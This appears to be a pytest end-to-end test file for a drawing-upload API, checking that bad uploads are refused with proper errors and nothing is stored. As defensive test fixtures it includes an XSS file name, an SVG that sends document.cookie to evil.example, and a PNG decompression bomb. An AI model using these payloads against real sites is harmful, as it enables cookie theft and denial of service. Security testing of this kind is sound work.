"""Files that are not a usable photo of a drawing, sent to both upload routes
over HTTP: each gets the right 4xx in the one error shape, and nothing is kept
(no S3 object, no checkpoint) and no worker hears of it."""

from __future__ import annotations

import base64
import io
import os
import time
from collections.abc import Callable
from dataclasses import dataclass
from functools import cache

import boto3
import httpx
import pillow_heif
import pytest
from PIL import Image, ImageDraw

from devstack.stack import Stack
from gateway.settings import GatewaySettings
from shared.domain.events import EventType
from tests.e2e.system import Parent, SpyQueue, assert_error_shape, gateway, outputs_of

MB = 1024 * 1024
ROUTES = ("/api/v1/vision/analyze", "/api/v1/runs")
# A file name that would show up in an error message if it were echoed back.
HOSTILE_NAME = '"><img src=x onerror=alert(1)>.png'


def _drawing(image_format: str, size: tuple[int, int] = (600, 400)) -> bytes:
    image = Image.new("RGB", size, "white")
    draw = ImageDraw.Draw(image)
    for step in range(0, size[0], 12):
        draw.line((step, 0, size[0] - step, size[1]), fill=(step % 255, 40, 200 - step % 200), width=3)
    draw.ellipse((220, 120, 380, 280), outline=(20, 120, 30), width=8)
    output = io.BytesIO()
    image.save(output, format=image_format)
    return output.getvalue()


@cache
def png_bomb() -> bytes:
    """20000 x 20000 one-bit pixels: 400 megapixels that compress to a few tens of kilobytes."""
    output = io.BytesIO()
    Image.new("1", (20000, 20000)).save(output, format="PNG", optimize=True)
    data = output.getvalue()
    assert len(data) < MB
    return data


def truncated_jpeg() -> bytes:
    whole = _drawing("JPEG")
    return whole[: len(whole) * 6 // 10]


def eleven_megabytes() -> bytes:
    return b"\xff\xd8\xff\xe0\x00\x10JFIF\x00\x01\x01\x00\x00\x01\x00\x01\x00\x00" + os.urandom(11 * MB)


SVG = b"""<?xml version="1.0" encoding="UTF-8"?>
<svg xmlns="http://www.w3.org/2000/svg" width="200" height="200" onload="alert(document.cookie)">
  <script type="text/javascript">fetch('https://evil.example/?c=' + document.cookie)</script>
  <circle cx="100" cy="100" r="80" fill="orange"/>
</svg>
"""


@dataclass(frozen=True)
class BadFile:
    name: str
    content: Callable[[], bytes]
    declared_type: str
    status: int
    codes: tuple[str, ...]


BAD_FILES = [
    BadFile("empty.png", lambda: b"", "image/png", 422, ("empty_file", "invalid_request")),
    BadFile(
        HOSTILE_NAME, lambda: b"This is a shopping list, not a drawing.\nMilk\nCrayons\n" * 20, "image/png", 415, ("unsupported_file",)
    ),
    BadFile("truncated.jpg", truncated_jpeg, "image/jpeg", 422, ("unreadable_image",)),
    BadFile("bomb.png", png_bomb, "image/png", 422, ("image_too_big", "unreadable_image")),
    BadFile("huge.jpg", eleven_megabytes, "image/jpeg", 413, ("file_too_large",)),
    BadFile("drawing.gif", lambda: _drawing("GIF"), "image/gif", 415, ("unsupported_file",)),
    BadFile("drawing.svg", lambda: SVG, "image/svg+xml", 415, ("unsupported_file",)),
]


# ---------------------------------------------------------------------------
# what the parent has, before and after


def s3_keys(stack: Stack, user_id: str) -> set[str]:
    s3 = boto3.client("s3", endpoint_url=stack.aws_endpoint, region_name=stack.region)
    keys: set[str] = set()
    for page in s3.get_paginator("list_objects_v2").paginate(Bucket=outputs_of(stack).bucket, Prefix=f"{user_id}/"):
        keys |= {item["Key"] for item in page.get("Contents", [])}
    return keys


def checkpoints(stack: Stack, settings: GatewaySettings, user_id: str) -> dict[str, str]:
    """run_id -> status of every checkpoint of the user."""
    dynamodb = boto3.client("dynamodb", endpoint_url=stack.aws_endpoint, region_name=stack.region)
    runs: dict[str, str] = {}
    pages = dynamodb.get_paginator("query").paginate(
        TableName=settings.topology.checkpoints.name,
        KeyConditionExpression="user_id = :user",
        ExpressionAttributeValues={":user": {"S": user_id}},
        ProjectionExpression="run_id, #status",
        ExpressionAttributeNames={"#status": "status"},
        ConsistentRead=True,
    )
    for page in pages:
        runs |= {item["run_id"]["S"]: item["status"]["S"] for item in page["Items"]}
    return runs


@dataclass
class Snapshot:
    keys: set[str]
    runs: dict[str, str]


def snapshot(stack: Stack, settings: GatewaySettings, user_id: str) -> Snapshot:
    return Snapshot(keys=s3_keys(stack, user_id), runs=checkpoints(stack, settings, user_id))


def _run_of(key: str) -> str:
    """<user>/<kind>/<run_id>[_suffix].<ext> -> run_id (run ids are UUIDs: 36 characters)."""
    return key.split("/", 2)[2][:36]


@pytest.fixture(scope="module")
def spy_seen(spy: SpyQueue) -> set[str]:
    return {event.id for event in spy.everything()}


@dataclass
class Kept:
    new_runs: list[str]
    new_objects: list[str]
    submitted: list[str]


def kept_since(before: Snapshot, stack: Stack, settings: GatewaySettings, parent: Parent, spy: SpyQueue, spy_seen: set[str]) -> Kept:
    """What the parent gained since `before`: checkpoints, S3 objects, drawing.submitted events."""
    after = snapshot(stack, settings, parent.user_id)
    # Runs other suites left going may still write their pictures; anything else is new.
    still_running = {run_id for run_id, status in before.runs.items() if status == "running"}
    time.sleep(0.3)
    events = spy.everything()
    submitted = [
        event.run_id
        for event in events
        if event.id not in spy_seen and event.type == EventType.DRAWING_SUBMITTED and event.user_id == parent.user_id
    ]
    spy_seen.update(event.id for event in events)
    return Kept(
        new_runs=sorted(after.runs.keys() - before.runs.keys()),
        new_objects=sorted(key for key in after.keys - before.keys if _run_of(key) not in still_running),
        submitted=submitted,
    )


@pytest.fixture
def nothing_kept(stack: Stack, settings: GatewaySettings, parent: Parent, spy: SpyQueue, spy_seen: set[str]):
    """Checks, after the test, that the parent has no new object, no new checkpoint, and no drawing.submitted went out."""
    before = snapshot(stack, settings, parent.user_id)
    yield
    kept = kept_since(before, stack, settings, parent, spy, spy_seen)
    assert kept == Kept([], [], []), kept
    if not any(status == "running" for status in before.runs.values()):
        assert len(s3_keys(stack, parent.user_id)) == len(before.keys)


def upload(client: httpx.Client, route: str, bad: BadFile) -> httpx.Response:
    return client.post(route, files={"drawing": (bad.name, bad.content(), bad.declared_type)}, timeout=60)


# ---------------------------------------------------------------------------
# the tests


@pytest.mark.parametrize("bad", BAD_FILES, ids=[bad.name if bad.name != HOSTILE_NAME else "text-named-png" for bad in BAD_FILES])
@pytest.mark.parametrize("route", ROUTES)
def test_a_bad_file_is_refused_and_nothing_is_kept(stack: Stack, parent: Parent, nothing_kept: None, route: str, bad: BadFile) -> None:
    with gateway(stack, parent) as client:
        response = upload(client, route, bad)
    error = assert_error_shape(response, bad.status, codes=bad.codes)
    assert "onerror" not in response.text and "<img" not in response.text, "the file name is echoed back"
    assert parent.user_id not in response.text
    assert len(error["message"]) < 300


def _b64(data: bytes) -> str:
    return base64.b64encode(data).decode()


JSON_CASES = {
    "invalid base64": ({"image_base64": "this is *not* base64 at all!"}, 422, ("invalid_base64",)),
    "base64 with a bad padding": ({"image_base64": _b64(b"\x89PNG\r\n\x1a\n")[:-1]}, 422, ("invalid_base64",)),
    "non-ASCII base64": ({"image_base64": "iVBORw0KGgo\u00e9\u00e9"}, 422, ("invalid_base64",)),
    "data URL of invalid base64": ({"image_base64": "data:image/png;base64,%%%%"}, 422, ("invalid_base64",)),
    "empty string": ({"image_base64": ""}, 422, ("invalid_request",)),
    "missing field": ({"drawing": _b64(b"x")}, 422, ("invalid_request",)),
    "not an object": (["image_base64"], 422, ("invalid_request",)),
    "base64 of an empty file": ({"image_base64": "data:image/png;base64,"}, 422, ("empty_file", "invalid_base64", "invalid_request")),
    "base64 of a text file": ({"image_base64": _b64(b"not a picture, just words " * 10)}, 415, ("unsupported_file",)),
    "base64 of an SVG": ({"image_base64": _b64(SVG)}, 415, ("unsupported_file",)),
    "base64 of a GIF": ({"image_base64": "data:image/gif;base64," + _b64(_drawing("GIF"))}, 415, ("unsupported_file",)),
}


@pytest.mark.parametrize("case", list(JSON_CASES))
def test_the_json_form_refuses_what_is_not_a_picture(stack: Stack, parent: Parent, nothing_kept: None, case: str) -> None:
    body, status, codes = JSON_CASES[case]
    with gateway(stack, parent) as client:
        response = client.post("/api/v1/vision/analyze", json=body)
    assert_error_shape(response, status, codes=codes)


@pytest.mark.parametrize(
    "bad", [bad for bad in BAD_FILES if bad.name in ("truncated.jpg", "bomb.png", "huge.jpg")], ids=lambda bad: bad.name
)
def test_the_json_form_refuses_bad_pictures_too(stack: Stack, parent: Parent, nothing_kept: None, bad: BadFile) -> None:
    with gateway(stack, parent) as client:
        response = client.post("/api/v1/vision/analyze", json={"image_base64": _b64(bad.content())}, timeout=60)
    assert_error_shape(response, bad.status, codes=bad.codes)


@pytest.mark.parametrize("route", ROUTES)
def test_an_iphone_heic_photo_is_accepted_and_stored_as_jpeg(
    stack: Stack, parent: Parent, settings: GatewaySettings, spy: SpyQueue, spy_seen: set[str], route: str
) -> None:
    output = io.BytesIO()
    pillow_heif.from_pillow(Image.open(io.BytesIO(_drawing("PNG")))).save(output, quality=90)
    before = snapshot(stack, settings, parent.user_id)
    with gateway(stack, parent) as client:
        deadline = time.monotonic() + 180
        while (
            response := client.post(route, files={"drawing": ("IMG_0001.HEIC", output.getvalue(), "image/heic")}, timeout=60)
        ).status_code == 429:
            assert time.monotonic() < deadline, response.text
            time.sleep(2)
    assert response.status_code == 202, response.text
    run_id = response.json()["run_id"]
    kept = kept_since(before, stack, settings, parent, spy, spy_seen)
    assert f"{parent.user_id}/drawings/{run_id}.jpg" in kept.new_objects


def test_the_control_a_good_drawing_is_kept_and_seen(
    stack: Stack, settings: GatewaySettings, parent: Parent, spy: SpyQueue, spy_seen: set[str]
) -> None:
    """The checks above would notice a stored upload: a real drawing shows up in all three places."""
    before = snapshot(stack, settings, parent.user_id)
    with gateway(stack, parent) as client:
        deadline = time.monotonic() + 180
        while (response := client.post("/api/v1/vision/analyze", json={"image_base64": _b64(_drawing("JPEG"))})).status_code == 429:
            assert time.monotonic() < deadline, response.text
            time.sleep(2)
    assert response.status_code == 202, response.text
    run_id = response.json()["run_id"]
    kept = kept_since(before, stack, settings, parent, spy, spy_seen)
    assert kept.new_runs == [run_id]
    assert f"{parent.user_id}/drawings/{run_id}.jpg" in kept.new_objects
    assert kept.submitted == [run_id]
